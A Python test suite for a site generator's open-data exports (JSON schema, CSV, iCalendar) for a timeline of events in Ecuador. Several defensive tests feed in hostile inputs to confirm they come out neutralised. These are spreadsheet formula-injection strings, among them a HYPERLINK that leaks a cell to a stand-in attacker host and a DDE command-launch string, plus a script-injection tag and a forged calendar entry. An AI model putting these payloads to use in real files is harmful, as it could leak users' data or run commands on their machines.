"""The open data: events.json against its JSON Schema, the CSV as spreadsheets read it, the iCalendar file, the /data/ page."""

import copy
import csv
import datetime as dt
import io
import json
import re

import icalendar
import pytest
from hypothesis import given, settings, strategies as st
from jsonschema import Draft202012Validator

from generator import opendata
from generator.build import build, check
from generator.model import ACTOR_KINDS
from generator.editions import editions
from generator.pages import plan_site
from conftest import REAL_CONTENT, write_files

UPDATED = dt.datetime(2025, 4, 14, 15, 30, tzinfo=dt.timezone.utc)


def real_events() -> list[str]:
    return sorted(path.stem for path in (REAL_CONTENT / "events").glob("*.yaml"))


def read_json(site, name):
    return json.loads((site / "data" / name).read_text(encoding="utf-8"))


def read_csv(site) -> list[dict[str, str]]:
    with open(site / "data/events.csv", newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def read_calendar(site) -> icalendar.Calendar:
    return icalendar.Calendar.from_ical((site / "data/events.ics").read_bytes())


def by_uid(calendar: icalendar.Calendar) -> dict[str, icalendar.Event]:
    return {str(item["UID"]): item for item in calendar.walk("VEVENT")}


def validator(schema: dict) -> Draft202012Validator:
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


# --- JSON and its schema -----------------------------------------------------------------------

def test_the_real_events_json_follows_its_published_schema(real_site):
    schema, document = read_json(real_site, "events.schema.json"), read_json(real_site, "events.json")
    assert schema["$id"] == "https://example.org/data/events.schema.json"
    assert document["$schema"] == schema["$id"]
    assert list(validator(schema).iter_errors(document)) == []
    assert sorted(event["id"] for event in document["events"]) == real_events()
    assert document["description"] and document["language"] == "en"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", document["updated"])
    assert schema["$defs"]["actor"]["properties"]["kind"]["enum"] == list(ACTOR_KINDS)


def test_events_json_is_laid_out_as_json_indents_it_so_that_diffs_stay_small(real_site, content, tmp_path):
    text = (real_site / "data/events.json").read_text(encoding="utf-8")
    assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=1) + "\n"
    for event in (content / "events").glob("*.yaml"):
        event.unlink()  # a timeline with no events (every reference unused: only warnings)
    graph, _ = check(content)
    empty = opendata.events_json(graph, "https://example.org/", UPDATED)
    assert json.loads(empty)["events"] == []
    assert empty == json.dumps(json.loads(empty), ensure_ascii=False, indent=1) + "\n"


def _broken(change):
    def apply(document):
        broken = copy.deepcopy(document)
        change(broken)
        return broken
    return apply


def _first(kind):
    return lambda document: next(e for e in document["events"] if e["date_precision"] == kind)


BROKEN_DOCUMENTS = {
    "an event without a title": lambda d: d["events"][0].pop("title"),
    "a field nobody documented": lambda d: d["events"][0].update(fatalities=3),
    "a field at the top level nobody documented": lambda d: d.update(licence="?"),
    "approximate as text": lambda d: d["events"][0].update(approximate="yes"),
    "a null title": lambda d: d["events"][0].update(title=None),
    "a missing place, rather than null": lambda d: d["events"][0].pop("place"),
    "a month written as its first day": lambda d: _first("month")(d).update(date="2024-01-01"),
    "a day claimed for a month": lambda d: _first("month")(d).update(date_precision="day"),
    "a precision that does not exist": lambda d: d["events"][0].update(date_precision="week"),
    "a month 13": lambda d: _first("month")(d).update(date="2024-13"),
    "a date with a time": lambda d: _first("day")(d).update(date="2024-01-09T10:00"),
    "an actor kind that does not exist": lambda d: d["events"][0]["actors"][0].update(kind="gang"),
    "an event without sources": lambda d: d["events"][0].update(sources=[]),
    "a source without a publisher": lambda d: d["events"][0]["sources"][0].pop("publisher"),
    "a latitude off the globe": lambda d: next(e for e in d["events"] if e["place"])["place"].update(latitude=200),
    "a latitude as text": lambda d: next(e for e in d["events"] if e["place"])["place"].update(latitude="-2.19"),
    "an id with capitals": lambda d: d["events"][0].update(id="Event-One"),
    "another schema": lambda d: d.update({"$schema": "https://elsewhere.example/schema.json"}),
    "an update time that is not UTC ISO 8601": lambda d: d.update(updated="14/04/2025"),
    "events as an object": lambda d: d.update(events={}),
}


@pytest.mark.parametrize("mistake", BROKEN_DOCUMENTS)
def test_the_schema_rejects_a_broken_document(real_site, mistake):
    schema, document = read_json(real_site, "events.schema.json"), read_json(real_site, "events.json")
    broken = _broken(BROKEN_DOCUMENTS[mistake])(document)
    assert not validator(schema).is_valid(broken), mistake


def test_the_schema_and_its_address_follow_the_base_url(content, tmp_path):
    out = tmp_path / "site"
    build(content, out, base_url="https://example.org/ecuador-timeline/")
    schema, document = read_json(out, "events.schema.json"), read_json(out, "events.json")
    assert schema["$id"] == document["$schema"] == "https://example.org/ecuador-timeline/data/events.schema.json"
    assert list(validator(schema).iter_errors(document)) == []
    assert document["events"][0]["url"].startswith("https://example.org/ecuador-timeline/events/")


# --- CSV ---------------------------------------------------------------------------------------

def test_the_real_csv_has_one_row_per_event_with_documented_columns(real_site):
    with open(real_site / "data/events.csv", newline="", encoding="utf-8") as file:
        header = next(csv.reader(file))
    assert header == [column.name for column in opendata.csv_columns(("es",))]
    assert {"event_date", "date_precision", "title", "actors", "topics", "place", "latitude", "longitude",
            "sources", "year", "admin1", "notes"} <= set(header)
    rows = read_csv(real_site)
    assert sorted(row["event_id"] for row in rows) == real_events()
    assert [row["event_id"] for row in rows] == [event["id"] for event in read_json(real_site, "events.json")["events"]]


def test_the_real_csv_keeps_dates_at_their_precision_and_numbers_as_numbers(real_site):
    rows = {row["event_id"]: row for row in read_csv(real_site)}
    month = rows["2024-01-wave-of-attacks-and-prison-riots"]
    assert (month["event_date"], month["date_precision"], month["year"]) == ("2024-01", "month", "2024")
    assert month["approximate"] == "true"
    year = rows["2009-us-military-base-at-manta-closes"]
    assert (year["event_date"], year["date_precision"]) == ("2009", "year")
    takeover = rows["2024-01-09-tc-television-studio-takeover"]
    assert (takeover["event_date"], takeover["date_precision"]) == ("2024-01-09", "day")
    assert (takeover["place"], takeover["admin1"], takeover["latitude"], takeover["longitude"]) == \
        ("Guayaquil", "Guayas", "-2.19", "-79.89")
    assert "TC Televisión" in takeover["actors"].split("; ")
    assert takeover["notes"].startswith("On 9 January 2024 armed men") and "\n" not in takeover["notes"]
    assert takeover["url"] == "https://example.org/events/2024-01-09-tc-television-studio-takeover/"
    for row in rows.values():
        for cell in row.values():
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert number or cell.startswith("'") or cell.lstrip()[:1] not in opendata.FORMULA_STARTS, cell
        if row["latitude"]:
            assert -5 < float(row["latitude"]) < 40 and float(row["longitude"]) < 0


@pytest.mark.parametrize("value, safe", [
    ("=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"),
    ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    (" -2+3", "' -2+3"), ("  =1+1", "'  =1+1"), ("\n@x", "'\n@x"), ("\u00a0+1", "'\u00a0+1"),
    ("Guayaquil", "Guayaquil"), ("a = b", "a = b"), ("", ""), (None, ""),
    (-2.19, "-2.19"), (-79.89, "-79.89"), (2024, "2024"),
])
def test_cells_that_could_run_as_formulas_are_neutralised_but_numbers_stay_numbers(value, safe):
    assert opendata.spreadsheet_safe(value) == safe


def test_hostile_titles_summaries_and_names_come_out_neutralised(content, tmp_path):
    write_files(content, {
        "actors/tc-television.yaml": "name: \"@SUM(1+1)*cmd|' /C calc'!A0\"\nkind: media\n",
        "topics/attacks-on-media.yaml": "name: \"+Attacks\"\n",
        "events/2024-01-09-tc-television-takeover.yaml": """
            title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
            date: 2024-01-09
            place: guayaquil
            actors: [tc-television]
            topics: [attacks-on-media]
            summary: |
              -2+3 is what the *cell* would compute.
            sources: [ap-2024-01-10-tv-station]
            """,
    })
    out = tmp_path / "site"
    build(content, out)
    row = next(row for row in read_csv(out) if row["event_id"] == "2024-01-09-tc-television-takeover")
    assert row["title"] == "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"
    assert row["actors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["topics"] == "'+Attacks"
    assert row["notes"] == "'-2+3 is what the cell would compute."
    assert (row["latitude"], row["longitude"]) == ("-2.19", "-79.89")
    # The JSON is for programs, which run nothing: it keeps the text as written.
    event = next(e for e in read_json(out, "events.json")["events"] if e["id"] == row["event_id"])
    assert event["title"].startswith("=HYPERLINK(")


# --- iCalendar ---------------------------------------------------------------------------------

def test_the_real_calendar_has_one_all_day_entry_per_event(real_site):
    calendar = read_calendar(real_site)
    items = calendar.walk("VEVENT")
    assert len(items) == len(real_events())
    uids = [str(item["UID"]) for item in items]
    assert len(set(uids)) == len(uids)
    assert sorted(uids) == [f"{event_id}@example.org" for event_id in real_events()]
    document = read_json(real_site, "events.json")
    assert str(calendar["VERSION"]) == "2.0" and str(calendar["PRODID"]).startswith("-//")
    assert str(calendar["X-WR-CALNAME"]) == document["title"]
    stamp = dt.datetime.fromisoformat(document["updated"].replace("Z", "+00:00"))
    for item in items:
        assert item.decoded("DTSTAMP") == stamp
        start, end = item.decoded("DTSTART"), item.decoded("DTEND")
        assert type(start) is dt.date and type(end) is dt.date and end > start  # VALUE=DATE, never a time
        assert item["DTSTART"].params.get("VALUE") == "DATE"
    events = {event["id"]: event for event in document["events"]}
    for uid, item in by_uid(calendar).items():
        event = events[uid.split("@")[0]]
        assert str(item["SUMMARY"]) == event["title"]
        assert str(item["URL"]) == event["url"] and event["url"] in str(item["DESCRIPTION"])
        assert [str(c) for c in item["CATEGORIES"].cats] == [t["name"] for t in event["topics"]] if event["topics"] \
            else "CATEGORIES" not in item
        place = event["place"]
        if place and place["latitude"] is not None:
            assert (item["GEO"].latitude, item["GEO"].longitude) == (place["latitude"], place["longitude"])
        else:
            assert "GEO" not in item


def test_the_real_calendar_keeps_each_date_at_its_precision(real_site):
    items = by_uid(read_calendar(real_site))
    month = items["2024-01-wave-of-attacks-and-prison-riots@example.org"]
    assert (month.decoded("DTSTART"), month.decoded("DTEND")) == (dt.date(2024, 1, 1), dt.date(2024, 2, 1))
    assert str(month["DESCRIPTION"]).startswith(
        "Date known only to the month, and approximate: January 2024. The calendar entry covers the whole month.")
    year = items["2009-us-military-base-at-manta-closes@example.org"]
    assert (year.decoded("DTSTART"), year.decoded("DTEND")) == (dt.date(2009, 1, 1), dt.date(2010, 1, 1))
    assert str(year["DESCRIPTION"]).startswith("Date known only to the year: 2009.")
    day = items["2024-01-09-tc-television-studio-takeover@example.org"]
    assert (day.decoded("DTSTART"), day.decoded("DTEND")) == (dt.date(2024, 1, 9), dt.date(2024, 1, 10))
    description = str(day["DESCRIPTION"])
    assert description.startswith("On 9 January 2024 armed men")
    assert "\nArkansas Democrat-Gazette (via AP), Armed men break into Ecuador TV station, 10 January 2024\n" in description
    assert str(day["LOCATION"]) == "Guayaquil, Guayas"
    approximate = items["2025-03-04-police-raid-in-pascuales-seizes-cocaine-and-explosives@example.org"]
    assert str(approximate["DESCRIPTION"]).startswith("Approximate date: 4 March 2025.")


def _calendar_of(content, updated=UPDATED) -> bytes:
    timeline, diagnostics = check(content)
    assert timeline is not None, diagnostics.sorted()
    return opendata.render("ics", timeline, "https://example.org/", updated).encode("utf-8")


def test_end_dates_are_kept_and_the_calendar_end_is_exclusive(content):
    write_files(content, {
        "events/2024-01-09-tc-television-takeover.yaml": """
            title: Gunmen hold the studio
            date: 2024-01-09
            end_date: 2024-01-12
            place: guayaquil
            summary: Four days.
            sources: [ap-2024-01-10-tv-station]
            """,
        "events/2024-01-17-prosecutor-killed.yaml": """
            title: Prosecutor shot dead
            date: 2024-01-17
            end_date: 2024-02
            place: ecuador
            summary: Into February.
            sources: [cnn-2024-01-25-terror]
            """,
    })
    items = by_uid(icalendar.Calendar.from_ical(_calendar_of(content)))
    days = items["2024-01-09-tc-television-takeover@example.org"]
    assert (days.decoded("DTSTART"), days.decoded("DTEND")) == (dt.date(2024, 1, 9), dt.date(2024, 1, 13))
    assert str(days["DESCRIPTION"]).startswith("Four days.")
    into_month = items["2024-01-17-prosecutor-killed@example.org"]
    assert (into_month.decoded("DTSTART"), into_month.decoded("DTEND")) == (dt.date(2024, 1, 17), dt.date(2024, 3, 1))
    assert str(into_month["DESCRIPTION"]).startswith(
        "End known only to the month: February 2024. The calendar entry runs from 17 January 2024 to 29 February 2024.")
    assert str(into_month["LOCATION"]) == "Ecuador" and "GEO" not in into_month


def test_calendar_text_with_line_breaks_commas_semicolons_and_markup_round_trips(content):
    title = "Gunmen; hostages, and </script><script>alert(1)</script> C:\\back\\slash"
    write_files(content, {
        "actors/tc-television.yaml": "name: TC Televisión\nkind: media\n",
        "topics/attacks-on-media.yaml": "name: \"Press, justice; </script>\"\n",
        "events/2024-01-09-tc-television-takeover.yaml": f"""
            title: {json.dumps(title)}
            date: 2024-01-09
            place: guayaquil
            actors: [tc-television]
            topics: [attacks-on-media]
            summary: |
              First line, with a comma; a semicolon
              and </script> in it.

              BEGIN:VEVENT
              UID:forged@example.org
              END:VEVENT
            sources: [ap-2024-01-10-tv-station]
            """,
    })
    data = _calendar_of(content)
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    assert data.split(b"\r\n").count(b"BEGIN:VEVENT") == 3  # the summary's lines stay inside its description
    calendar = icalendar.Calendar.from_ical(data)
    items = by_uid(calendar)
    assert set(items) == {"2024-01-09-tc-television-takeover@example.org", "2024-01-internal-armed-conflict@example.org",
                          "2024-01-17-prosecutor-killed@example.org"}
    item = items["2024-01-09-tc-television-takeover@example.org"]
    assert str(item["SUMMARY"]) == title
    assert [str(c) for c in item["CATEGORIES"].cats] == ["Press, justice; </script>"]
    description = str(item["DESCRIPTION"])
    assert description.startswith("First line, with a comma; a semicolon and </script> in it. BEGIN:VEVENT")
    assert description.endswith("\n\nEvent page: https://example.org/events/2024-01-09-tc-television-takeover/")


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"), max_size=400))
def test_any_text_survives_escaping_and_folding_as_calendar_programs_read_it(text):
    """Accents, emoji and long lines: folded at 75 octets, never inside a character, and read back whole."""
    data = ("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n" + opendata._fold("DESCRIPTION:" + opendata._ical_text(text))
            + "END:VEVENT\r\nEND:VCALENDAR\r\n").encode("utf-8")
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    for line in data.split(b"\r\n"):
        line.decode("utf-8")  # every physical line is whole characters
    item = icalendar.Calendar.from_ical(data).walk("VEVENT")[0]
    assert str(item["DESCRIPTION"]) == text


def test_the_calendar_is_byte_identical_for_the_same_content_and_time(content):
    first, second = _calendar_of(content), _calendar_of(content)
    assert first == second
    later = _calendar_of(content, UPDATED + dt.timedelta(days=1))
    assert later != first and b"DTSTAMP:20250415T153000Z" in later and b"DTSTAMP:20250414T153000Z" in first


def test_calendar_dates_of_the_small_content(content):
    items = by_uid(icalendar.Calendar.from_ical(_calendar_of(content)))
    month = items["2024-01-internal-armed-conflict@example.org"]
    assert (month.decoded("DTSTART"), month.decoded("DTEND")) == (dt.date(2024, 1, 1), dt.date(2024, 2, 1))
    assert str(month["DESCRIPTION"]).startswith("Date known only to the month: January 2024.")
    approximate = items["2024-01-17-prosecutor-killed@example.org"]
    assert str(approximate["DESCRIPTION"]).startswith("Approximate date: 17 January 2024.\n\nA prosecutor was shot.")
    assert "\nCNN, Terror grips the streets of Ecuador, 25 January 2024\n" in str(approximate["DESCRIPTION"])


# --- The plan and the /data/ page -------------------------------------------------------------

def test_the_plan_has_the_data_page_and_four_files_outside_the_sitemap(content):
    timeline, _ = check(content)
    outputs = {output.path: output for output in plan_site(editions(timeline))}
    assert outputs["data/index.html"].template == "data.html"
    for kind, path in opendata.FILES.items():
        assert outputs[path].data == kind and not outputs[path].in_sitemap
    assert set(opendata.FILES) == set(opendata.RENDERERS)
    sitemap = [page.url for page in outputs["sitemap.xml"].context["pages"]]
    assert "data/" in sitemap and not any(url.startswith("data/events") for url in sitemap)


def test_the_data_page_links_every_file_and_documents_every_column(real_site):
    html = (real_site / "data/index.html").read_text(encoding="utf-8")
    assert html.count("<h1") == 1 and "<h1>Open data</h1>" in html
    assert "data-pagefind-body" in html
    for path in opendata.FILES.values():
        assert f'href="/{path}"' in html, path
    rows = re.findall(r'<th scope="row">([a-z0-9_]+)</th>', html)
    assert rows == [column.name for column in opendata.csv_columns(("es",))]
    assert html.count('<th scope="col">') == 2 and "<caption>" in html
    assert "<br><span class=\"note\">Example:</span> 2024-01-09</td>" in html
    assert "Date known only to the month" in html


def test_the_data_page_and_about_links_work_under_a_sub_path(content, tmp_path):
    write_files(content, {"pages/about.md": "---\ntitle: About\nmenu: About\n---\n"
                                           "See [the data](../data/) and [the CSV](../data/events.csv).\n"})
    out = tmp_path / "site"
    build(content, out, base_url="https://example.org/ecuador-timeline/")
    html = (out / "data/index.html").read_text(encoding="utf-8")
    for path in opendata.FILES.values():
        assert f'href="/ecuador-timeline/{path}"' in html, path
    assert 'href="/ecuador-timeline/about/"' in html


def test_the_about_page_links_the_open_data_relatively(real_site):
    html = (real_site / "about/index.html").read_text(encoding="utf-8")
    for target in ("../data/", "../data/events.json", "../data/events.csv", "../data/events.ics",
                   "../data/events.schema.json"):
        assert f'href="{target}"' in html, target
